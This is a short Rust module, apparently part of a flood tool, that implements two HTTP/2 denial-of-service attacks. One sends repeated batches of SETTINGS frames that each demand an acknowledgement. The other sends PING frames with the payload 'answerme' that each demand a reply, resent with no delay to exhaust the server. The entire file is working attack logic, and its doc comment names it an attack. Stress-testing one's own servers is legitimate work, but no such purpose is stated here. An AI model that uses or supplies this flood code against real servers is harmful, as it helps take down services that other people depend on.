//! HTTP/2 attacks by frames that each want an answer.

use std::time::Duration;

use crate::floods::attack::script::Script;
use crate::h2::frame;

/// Frames in one write.
const BATCH: usize = 200;

/// Settings, to be acknowledged each time.
pub(super) fn settings() -> Script {
    repeat(|out| frame::push_settings(out, &[(frame::INITIAL_WINDOW_SIZE, 65_535)]))
}

/// Pings, to be answered each time.
pub(super) fn pings() -> Script {
    repeat(|out| frame::push(out, frame::PING, 0, 0, b"answerme"))
}

fn repeat(push: fn(&mut Vec<u8>)) -> Script {
    let mut batch = Vec::new();
    for _ in 0..BATCH {
        push(&mut batch);
    }
    Script::http2(Duration::ZERO, &[], move |_| Some(batch.clone()))
}
